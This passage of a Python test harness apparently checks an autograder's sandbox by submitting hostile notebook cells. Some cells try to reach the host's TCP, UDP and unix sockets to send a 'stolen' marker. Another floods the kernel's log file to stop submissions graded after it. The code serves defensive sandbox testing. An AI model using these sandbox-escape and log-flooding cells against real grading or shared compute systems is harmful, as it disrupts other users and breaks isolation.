                    s.sendall(("stolen " + _P["mark"]).encode())
                result = "connected"
            except OSError as exc:
                result = repr(exc)
            _say("abstract_socket", result=result)
        ''', **P, name=ctx.abstract_socket),
    }, "TCP to the host's loopback and addresses, DNS, UDP, an abstract unix socket"))
    # graded after the honest students: its harm falls on a victim graded later in the same worker
    out.append(Attack(KERNEL_LOG, "resources", "host", {"relu": _cell('''
        import os
        # The kernel's own stdout (fd 1), where fd-level writes go, is a log file of the grader's
        # on the host: fill it up to the file-size limit (past it, writing fails instead of
        # killing the kernel).
        import signal
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        log = 1
        import time
        written, error, stop = 0, "", time.monotonic() + 8  # ipykernel forwards fd 1 to the notebook: slow
        try:
            os.set_blocking(log, False)  # a full pipe must not hold the cell past the time limit
            while log is not None and written < 2 * _P["disk"] and time.monotonic() < stop:
                try:
                    written += os.write(log, b"\\0" * 2**16)
                except BlockingIOError:
                    time.sleep(0.01)
        except OSError as exc:
            error = repr(exc)
        _log_result = dict(fd=log, written=written, error=error)
    ''', **P, disk=ctx.disk), "relu_backward": _cell('''
        # reported from the next cell: the flood above ran past the output limit, which drops the rest
        _say("fill_kernel_log", **_log_result)
    ''')}, "fill the kernel's log file (its inherited stdout) up to the file-size limit, to stop the "
        "kernels graded after it"))
    return out


# A victim graded after the kernel-log attacker in the same worker: batches are every jobs-th
# submission in sorted order, so with two workers the blank filler goes to the other one.
KERNEL_LOG, FILLER, VICTIM = "zzzz1_kernel_log", "zzzz2_blank", "zzzz3_victim"
VICTIM_PROBE = PRELUDE + LOCATE + '_say("victim", worker=_worker)\n'


def all_attacks(ctx: Context) -> list[Attack]:
    attacks = score_attacks() + host_attacks(ctx)
    names = [a.name for a in attacks]
    assert len(names) == len(set(names))
    assert all(ctx.honest[0] < n < ctx.honest[1] for n in names if n != KERNEL_LOG)
    assert ctx.honest[1] < KERNEL_LOG < FILLER < VICTIM
    return attacks


def submission(attack: Attack, blank):
    """The blank notebook ``blank`` with ``attack``'s cells in place."""
    from autograder.catalogue.examples import with_cell

    nb = copy.deepcopy(blank)
    for grade_id, source in attack.cells.items():
        nb = with_cell(nb, grade_id, source)
    return nb


def reports(nb) -> list[dict]:
    """Every ``HOSTILE {json}`` line an attack printed, in order."""
    found = []
    for cell in nb.cells:
        for output in cell.get("outputs", []):
            if output.get("output_type") != "stream":
                continue
            for line in output.get("text", "").splitlines():
                if line.startswith(REPORT):
                    try:
                        found.append(json.loads(line[len(REPORT):]))
                    except ValueError:
                        pass
    return found


def output_text(nb) -> str:
    """All text a student could see come out of the notebook's cells (not their source)."""
    parts = []
    for cell in nb.cells:
        for output in cell.get("outputs", []):
            parts.append(output.get("text", "") or "")
            parts.append(output.get("evalue", "") or "")
            parts += [str(v) for v in (output.get("data") or {}).values()]
            parts += output.get("traceback", []) or []
    return "\n".join(parts)


# --- the host side: listeners, the class run, what is left over -----------------------------------

class Listeners:
    """A TCP and a UDP port on every address of the host and an abstract unix socket, all
    recording whatever reaches them."""

    def __init__(self):
        import socket
        import threading

        self.received: list[str] = []
        self.tcp = socket.create_server(("0.0.0.0", 0))
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("0.0.0.0", 0))
        self.abstract_name = f"nncourse-hostile-{id(self)}"
        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.unix.bind("\0" + self.abstract_name)
        self.unix.listen()
        self.stop = threading.Event()
        for sock, kind in ((self.tcp, "tcp"), (self.udp, "udp"), (self.unix, "unix")):
            sock.settimeout(0.5)
            threading.Thread(target=self._serve, args=(sock, kind), daemon=True).start()

    def _serve(self, sock, kind):
        while not self.stop.is_set():
            try:
                if kind == "udp":
                    data, peer = sock.recvfrom(65536)
                    self.received.append(f"udp from {peer}: {data[:100]!r}")
                else:
                    conn, peer = sock.accept()
                    self.received.append(f"{kind} connection from {peer!r}")
                    conn.close()
            except OSError:
                continue

    @property
    def ports(self):
        return self.tcp.getsockname()[1], self.udp.getsockname()[1]

    def close(self):
        self.stop.set()
        for sock in (self.tcp, self.udp, self.unix):
            sock.close()


def host_addresses() -> list[str]:
    import psutil

    found = ["127.0.0.1"]
    for addresses in psutil.net_if_addrs().values():
        for address in addresses:
            if address.family.name == "AF_INET" and address.address not in found:
                found.append(address.address)
    return found


def processes_named(words: list[str]) -> list[tuple[int, str]]:
    """Live processes whose command line contains one of ``words``."""
    import psutil

    found = []
    for proc in psutil.process_iter(["pid", "cmdline"]):
        line = " ".join(proc.info.get("cmdline") or [])
        if any(w in line for w in words):
            found.append((proc.info["pid"], line))
    return found


def kill(pids) -> None:
    import os
    import signal

    for pid in pids:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
